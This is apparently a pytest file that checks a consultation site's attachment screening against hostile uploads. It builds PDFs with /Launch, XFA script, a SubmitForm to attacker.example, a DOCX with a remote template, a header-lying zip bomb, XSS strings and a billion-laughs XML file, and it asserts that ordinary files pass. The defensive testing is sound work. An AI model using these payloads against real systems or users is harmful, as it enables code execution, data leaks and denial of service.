"""The attachments of the third probe, each built here: files that declare nothing wrong but
would run a script, open or fetch something, or inflate without end. Each is refused with a
message naming the file; ordinary files of each kind are still accepted."""

from __future__ import annotations

import io
import zipfile

import pytest

from consult.intake.screening import ZIP_READ_CHUNK, Refusal, screen
from consult.models import Attachment, Comment
from tests.site.conftest import minimal_docx, minimal_odt, upload
from tests.site.test_comment_form import error_summary
from tests.site.test_upload_screening import pdf

pytestmark = pytest.mark.django_db

ACTIVE = "contains scripts, automatic actions or embedded files"
INFLATES = "would inflate to more than 100 MB"
EXTERNAL = "loads content from elsewhere when it is opened"
EMBEDDED = "contains an embedded object or control"
MARKUP = "contains web page markup"
OLE_HEADER = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def stream(dictionary: bytes, content: bytes) -> bytes:
    return dictionary[:-2] + b"/Length %d >>\nstream\n" % len(content) + content + b"\nendstream"


def annotated_pdf(annotation: bytes, *more: bytes) -> bytes:
    """A PDF whose page has one annotation (object 4); ``more`` are objects 5, 6…"""
    return pdf(b"", b"/Annots [4 0 R] ", annotation, *more)


def link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A " + action + b" >>"


def pdf_with_xfa() -> bytes:
    xfa = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
    return pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >> ", b"", stream(b"<< >>", xfa))


def pdf_with_ef_annotation() -> bytes:
    """A file attached through an annotation's file specification: /EF, and no
    /Type /EmbeddedFile on the stream (the old check looked for that type)."""
    return annotated_pdf(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] "
        b"/FS << /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >> >>",
        stream(b"<< >>", b"MZ\x90\x00payload"),
    )


def lying_zip_bomb() -> bytes:
    """A DOCX with a member of 150 MB of zeros (about 146 KB packed) whose headers, local and
    central, say it holds 1,000 bytes."""
    real = 150 * 1000 * 1000
    out = io.BytesIO(minimal_docx())
    with (
        zipfile.ZipFile(out, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("word/media/image1.png", "w") as member,
    ):
        for _ in range(real // 1_000_000):
            member.write(bytes(1_000_000))
    data = out.getvalue()
    declared = real.to_bytes(4, "little")
    assert data.count(declared) == 2  # the local header and the central directory
    return data.replace(declared, (1000).to_bytes(4, "little"))


def docx_with(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO(minimal_docx())
    with zipfile.ZipFile(out, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def odt_with(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO(minimal_odt())
    with zipfile.ZipFile(out, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def relationships(*rows: str) -> bytes:
    body = "".join(rows)
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        f'openxmlformats.org/package/2006/relationships">{body}</Relationships>'
    ).encode()


def docx_with_remote_template() -> bytes:
    return docx_with(
        {
            "word/settings.xml": b'<w:settings xmlns:w="urn:w"><w:attachedTemplate/></w:settings>',
            "word/_rels/settings.xml.rels": relationships(
                f'<Relationship Id="rId1" Type="{RELS}/attachedTemplate" '
                'Target="http://attacker.example/t.dotm" TargetMode="External"/>'
            ),
        }
    )


def docx_with_ole_object() -> bytes:
    return docx_with(
        {
            "word/embeddings/oleObject1.bin": OLE_HEADER,
            "word/_rels/document.xml.rels": relationships(
                f'<Relationship Id="rId5" Type="{RELS}/oleObject" '
                'Target="embeddings/oleObject1.bin"/>'
            ),
        }
    )


ODT_CONTENT = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>{}'
    "</office:text></office:body></office:document-content>"
)


def odt_content(body: str) -> bytes:
    return minimal_odt(ODT_CONTENT.format(body))


PROBES = {
    "pdf with an XFA form": ("xfa.pdf", pdf_with_xfa, ACTIVE),
    "pdf with a file in an annotation's /EF": ("ef.pdf", pdf_with_ef_annotation, ACTIVE),
    "pdf with /SubmitForm": (
        "submit.pdf",
        lambda: annotated_pdf(link(b"<< /S /SubmitForm /F (https://attacker.example/) >>")),
        ACTIVE,
    ),
    "pdf with /GoToR": (
        "gotor.pdf",
        lambda: annotated_pdf(link(b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) >>")),
        ACTIVE,
    ),
    "pdf with /Launch after a GoTo": (
        "launch.pdf",
        lambda: annotated_pdf(
            link(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (calc.exe) >> >>")
        ),
        ACTIVE,
    ),
    "pdf with /RichMedia": (
        "richmedia.pdf",
        lambda: annotated_pdf(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
        ACTIVE,
    ),
    "pdf with /ImportData": (
        "import.pdf",
        lambda: annotated_pdf(link(b"<< /S /ImportData /F (data.fdf) >>")),
        ACTIVE,
    ),
    "pdf with a javascript: link": (
        "jslink.pdf",
        lambda: annotated_pdf(link(b"<< /S /URI /URI (javascript:app.alert(1)) >>")),
        ACTIVE,
    ),
    "docx zip bomb whose headers lie": ("bomb.docx", lying_zip_bomb, INFLATES),
    "docx with a remote template": ("template.docx", docx_with_remote_template, EXTERNAL),
    "docx with an OLE object": ("ole.docx", docx_with_ole_object, EMBEDDED),
    "odt with a linked section": (
        "linked.odt",
        lambda: odt_content(
            '<text:section text:name="s"><text:section-source '
            'xlink:href="http://attacker.example/x.odt"/></text:section>'
        ),
        EXTERNAL,
    ),
    "odt with an OLE object": ("ole.odt", lambda: odt_with({"Object 1": OLE_HEADER}), EMBEDDED),
    "txt with <img onerror>": ("img.txt", lambda: b"Hello <img src=x onerror=alert(1)>", MARKUP),
    "txt with a javascript: link": (
        "link.txt",
        lambda: b'See <a href="java&#x09;script:alert(1)">the draft</a>.',
        MARKUP,
    ),
    "txt with <meta http-equiv=refresh>": (
        "meta.txt",
        lambda: b'<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
        MARKUP,
    ),
    "txt with a bare javascript: url": ("bare.txt", lambda: b"Open javascript:alert(1)", MARKUP),
}


@pytest.mark.parametrize("case", PROBES, ids=list(PROBES))
def test_each_probe_is_refused_by_name(client, consultation, comment_url, valid_data, during, case):
    name, build, message = PROBES[case]
    response = client.post(comment_url, {**valid_data, "attachments": [upload(name, build())]})
    assert response.status_code == 400, case
    assert f"“{name}” {message}" in error_summary(response)
    assert Comment.objects.count() == 0
    assert Attachment.objects.count() == 0


ORDINARY = {
    "pdf with a web link": (
        "web.pdf",
        lambda: annotated_pdf(link(b"<< /S /URI /URI (https://www.mohrss.gov.cn/) >>")),
    ),
    "pdf with a mail link and a GoTo": (
        "mail.pdf",
        lambda: annotated_pdf(
            link(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (mailto:a@b.cn) >> >>")
        ),
    ),
    "docx with a hyperlink and an image": (
        "links.docx",
        lambda: docx_with(
            {
                "word/media/image1.png": b"\x89PNG\r\n\x1a\n" + bytes(2000),
                "word/_rels/document.xml.rels": relationships(
                    f'<Relationship Id="rId1" Type="{RELS}/hyperlink" '
                    'Target="https://www.mohrss.gov.cn/" TargetMode="External"/>',
                    f'<Relationship Id="rId2" Type="{RELS}/image" Target="media/image1.png"/>',
                ),
            }
        ),
    ),
    "odt with a hyperlink and an image": (
        "links.odt",
        lambda: odt_content(
            '<text:p><text:a xlink:href="https://www.mohrss.gov.cn/">site</text:a>'
            '<draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame></text:p>'
        ),
    ),
    "txt with comparisons and an address": (
        "plain.txt",
        lambda: "a<b; 收入 > 支出, 3 < 4, 见 https://www.mohrss.gov.cn/ 。\n".encode(),
    ),
}


@pytest.mark.parametrize("case", ORDINARY, ids=list(ORDINARY))
def test_ordinary_files_are_accepted(client, consultation, comment_url, valid_data, during, case):
    name, build = ORDINARY[case]
    response = client.post(comment_url, {**valid_data, "attachments": [upload(name, build())]})
    assert response.status_code == 302, error_summary(response)
    assert Attachment.objects.get().original_name == name


def test_the_lying_bomb_is_refused_before_it_is_all_inflated(monkeypatch):
    """The count stops at 100 times the file's size (about 15 MB here), not at 150 MB."""
    given = []
    read = zipfile.ZipExtFile.read

    def counted(self, n=-1):
        data = read(self, n)
        given.append(len(data))
        return data

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counted)
    bomb = upload("bomb.docx", lying_zip_bomb())

    assert screen(bomb, Attachment.Kind.DOCX) == Refusal.ZIP_BOMB
    assert 100 * bomb.size < sum(given) < 100 * bomb.size + 2 * ZIP_READ_CHUNK
    assert sum(given) < 20 * 1000 * 1000


@pytest.mark.parametrize(
    ("name", "build", "message"),
    [
        ("ole.docx", docx_with_ole_object, "“ole.docx”含有嵌入对象或控件"),
        ("template.docx", docx_with_remote_template, "“template.docx”打开时会从别处加载内容"),
        ("meta.txt", lambda: b"<meta http-equiv=refresh>", "“meta.txt”含有网页标记"),
    ],
)
def test_the_refusals_speak_chinese(
    client, consultation, comment_url, valid_data, during, name, build, message
):
    data = {**valid_data, "attachments": [upload(name, build())]}
    response = client.post(comment_url, data, HTTP_ACCEPT_LANGUAGE="zh-hans")
    assert response.status_code == 400
    assert message in error_summary(response)


@pytest.mark.parametrize(
    ("text", "refused"),
    [
        ("x<y " * 5000, False),  # tags cut off by the end of the file: a browser drops them
        ("x<y " * 5000 + "<img src=x onerror=alert(1)>", True),
        ("a < b " * 10_001, True),  # more "<" than any letter holds
        ("Open &#106;avascript&#58;alert(1)", True),
        ("Unclosed <!-- comment", True),
        ("<?php echo 1; ?>", True),
        ("I like JavaScript, the language.", False),
    ],
    ids=[
        "cut-off tags",
        "tag after cut-off tags",
        "too many openings",
        "charrefs",
        "comment",
        "pi",
        "words",
    ],
)
def test_text_screening_reads_as_a_browser_does(text, refused):
    verdict = screen(upload("note.txt", text.encode()), Attachment.Kind.TXT)
    assert (verdict == Refusal.MARKUP) is refused


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><r>&b;</r>'
)


@pytest.mark.parametrize(
    ("name", "build"),
    [
        ("laughs.docx", lambda: docx_with({"word/_rels/document.xml.rels": LAUGHS})),
        ("laughs.odt", lambda: odt_with({"styles.xml": LAUGHS})),
        ("broken.docx", lambda: docx_with({"word/_rels/document.xml.rels": b"<Relationships"})),
    ],
)
def test_xml_declaring_entities_or_broken_is_refused_unchecked(
    client, consultation, comment_url, valid_data, during, name, build
):
    response = client.post(comment_url, {**valid_data, "attachments": [upload(name, build())]})
    assert response.status_code == 400
    assert f"“{name}” could not be checked: the file is damaged or encrypted." in error_summary(
        response
    )
